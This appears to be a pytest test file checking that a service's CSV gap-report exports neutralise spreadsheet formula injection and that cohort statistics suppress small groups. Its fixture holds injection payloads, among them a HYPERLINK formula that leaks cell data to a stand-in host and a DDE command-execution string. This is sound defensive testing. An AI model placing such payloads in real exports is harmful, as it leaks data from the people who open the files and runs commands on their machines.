"""Issue 8: formula-safe CSV exports; cohort aggregates suppress small groups."""
from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest

from ontology.csvsafe import safe_cell
from service.app import create_app
from service.extensions import gapmap

MINI = Path(__file__).resolve().parents[1] / "fixtures" / "mini"
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'


@pytest.fixture
def evil_app(tmp_path):
    """The mini fixtures, with formula-like labels in the framework CSV."""
    d = tmp_path / "mini"
    shutil.copytree(MINI, d)
    fw = (d / "framework.csv").read_text().splitlines()
    out = [fw[0]]
    for line in fw[1:]:
        row = next(csv.reader([line]))
        if row[0] == "PC1":
            row[3] = EVIL
        elif row[0] == "CM1":
            row[3] = "@SUM(1+1)*cmd|' /C calc'!A0"
        elif row[0] == "PC":
            row[3] = "+Patient care"
        buf = io.StringIO()
        csv.writer(buf, lineterminator="").writerow(row)
        out.append(buf.getvalue())
    (d / "framework.csv").write_text("\n".join(out) + "\n")
    app = create_app({"STORE_PATH": "", "TESTING": True, "CACHE_DIR": str(tmp_path / "cache")})
    with app.app_context():
        gapmap().load_manifest(d / "manifest.json")
    return app


def test_gap_report_csv_neutralises_formulas(evil_app, auth):
    resp = evil_app.test_client().get("/api/programs/mini/gaps", query_string={"format": "csv"},
                                      headers=auth("viewer", app=evil_app))
    assert resp.status_code == 200 and resp.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(resp.get_data(as_text=True))))
    labels = {r["competency"]: r["label"] for r in rows}
    assert labels["PC1"] == "'" + EVIL
    assert labels["CM1"].startswith("'@")
    domains = {r["domain"]: r["domain_label"] for r in rows}
    assert domains["PC"] == "'+Patient care"
    for r in rows:  # no cell a spreadsheet would evaluate
        for v in r.values():
            assert not (v or "").startswith(("=", "+", "-", "@", "\t", "\r")), v
    # the JSON keeps the data as it is (only spreadsheet formats are neutralised)
    data = evil_app.test_client().get("/api/programs/mini/gaps", headers=auth("viewer", app=evil_app)).get_json()
    assert any(c["label"] == EVIL for c in data["competencies"])


@pytest.mark.parametrize("value,expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("plain", "plain"), ("a=b", "a=b"), ("", ""), (3, 3), (None, None),
])
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_cli_gap_csv_is_neutralised_too(evil_app):
    with evil_app.app_context():
        from ontology.gaps import gap_report
        ws = gapmap()
        text = gap_report(ws.store, ws.ids, "mini", "mini").to_csv()
    assert "'" + EVIL.replace('"', '""') in text


def test_achievement_endpoint_suppresses_small_groups(evil_app, auth):
    client = evil_app.test_client()
    body = client.get("/api/programs/mini/achievement", headers=auth("viewer", app=evil_app)).get_json()
    assert body["min_group"] == 5 and body["competencies"] == []
    assert {s["competency"] for s in body["suppressed"]} == {"PC1", "PC2"}
    evil_app.config["MIN_GROUP_SIZE"] = 2
    body = client.get("/api/programs/mini/achievement", headers=auth("viewer", app=evil_app)).get_json()
    assert [(c["notation"], c["learners"]) for c in body["competencies"]] == [("PC1", 2)]
    assert json.dumps(body).count('"learners": 1') == 0
